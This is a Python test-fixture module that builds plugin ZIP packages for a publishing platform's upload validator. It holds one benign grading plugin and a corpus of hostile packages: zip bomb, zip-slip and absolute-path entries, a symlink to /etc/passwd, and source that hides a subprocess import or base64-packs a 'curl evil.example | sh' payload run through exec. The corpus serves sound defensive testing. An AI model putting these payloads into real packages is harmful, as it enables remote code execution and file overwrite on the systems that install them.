"""Plugin packages for the publishing tests: a benign package that passes, and a corpus of hostile ones."""

import base64
import io
import json
import os
import stat
import zipfile

GOOD_SOURCE = '''"""Quiz helper: grades short answers with the platform's AI."""

context = None


def init(ctx):
    global context
    context = ctx


def grade(submission_id, answer):
    analysis = context.call("ai.analyzeText", text=answer, analysis="sentiment")
    context.call("assessments.grade", submission_id=submission_id, grade={"score": analysis.get("score", 0)})
    context.storage.set("last", submission_id)
    return analysis
'''

GOOD_TEST = '''from plugin import grade


def test_grade_is_callable():
    assert callable(grade)
'''

PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 64


def manifest(plugin_id="quiz-helper", version="1.0.0", **extra):
    data = {
        "id": plugin_id,
        "name": extra.pop("name", plugin_id.replace("-", " ").title()),
        "version": version,
        "description": "Grades short answers with the platform's AI and records the grade. " * 4,
        "author": {"name": "Tester", "email": "dev@example.test"},
        "category": "assessment",
        "tags": ["quiz", "grading"],
        "permissions": [
            {"scope": "ai:use", "reason": "Analyse answers."},
            {"scope": "assessments:grade", "reason": "Record the grade."},
        ],
        "minPlatformVersion": "2.0.0",
        "maxPlatformVersion": "3.0.0",
        "icon": "icon.png",
        "screenshots": ["https://example.test/1.png", "https://example.test/2.png", "https://example.test/3.png"],
        "documentationUrl": "https://example.test/docs",
        "supportUrl": "https://example.test/support",
        "changelog": "First release.",
    }
    data.update(extra)
    return data


def build(source=GOOD_SOURCE, *, plugin_id="quiz-helper", version="1.0.0", files=None, manifest_data=None,
          **extra) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("plugin.json", manifest_data if isinstance(manifest_data, (bytes, str)) else json.dumps(
            manifest_data or manifest(plugin_id, version, **extra)))
        if source is not None:
            zf.writestr("plugin.py", source)
        zf.writestr("icon.png", PNG)
        zf.writestr("README.md", "# Quiz helper\n\nGrades answers.\n")
        zf.writestr("tests/test_plugin.py", GOOD_TEST)
        for name, content in (files or {}).items():
            if isinstance(name, zipfile.ZipInfo):
                zf.writestr(name, content)
            else:
                zf.writestr(name, content)
    return buffer.getvalue()


def raw_zip(entries) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, content in entries:
            zf.writestr(name, content)
    return buffer.getvalue()


def symlink_entry(name="link", target="/etc/passwd") -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.create_system = 3
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info


def hostile_corpus() -> dict[str, tuple[bytes, str]]:
    """name -> (package, the upload's refusal code). Packages refused before any code is read."""
    good_manifest = json.dumps(manifest())
    return {
        "zip bomb": (build(files={"bomb.txt": b"\0" * 20_000_000}), "compression_ratio"),
        "zip-slip": (raw_zip([("plugin.json", good_manifest), ("../../evil.py", "x = 1")]), "unsafe_path"),
        "absolute path": (raw_zip([("plugin.json", good_manifest), ("/etc/cron.d/evil", "x")]), "unsafe_path"),
        "symlink": (build(files={symlink_entry(): "/etc/passwd"}), "symlink"),
        "case collision": (build(files={"Plugin.py": "x = 1"}), "duplicate_name"),
        "50 MB manifest": (raw_zip([("plugin.json", b" " * 50_000_000 + b"{}")]), "compression_ratio"),
        "invalid UTF-8 manifest": (raw_zip([("plugin.json", b"\xff\xfe{\"id\": \"x\"}"), ("plugin.py", "")]),
                                   "manifest_invalid"),
        "not a zip": (b"MZ this is not a zip file at all", "not_a_zip"),
        "no manifest": (raw_zip([("plugin.py", "x = 1")]), "manifest_missing"),
        "unknown scope": (build(permissions=[{"scope": "root:all", "reason": "x"}]), "manifest_invalid"),
        "max below min": (build(maxPlatformVersion="1.0.0"), "manifest_invalid"),
    }


SUBPROCESS_VIA_IMPORT = GOOD_SOURCE + '''

def run(cmd):
    sp = __import__('sub' + 'process')
    return sp.check_output(cmd)
'''

_PACKED = base64.b64encode(b"import os\nos.system('curl evil.example | sh')\n" + os.urandom(400)).decode()
BASE64_PAYLOAD = GOOD_SOURCE + f'''

import base64
PAYLOAD = "{_PACKED}"
exec(base64.b64decode(PAYLOAD))
'''

AWS_KEY = GOOD_SOURCE + '''

AWS_ACCESS_KEY_ID = "AKIAIOSFODNN7EXAMPLE"
AWS_SECRET_ACCESS_KEY = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
'''

UNDECLARED_SCOPE = GOOD_SOURCE + '''

def wipe(content_id):
    context.api.content.delete(content_id)
'''
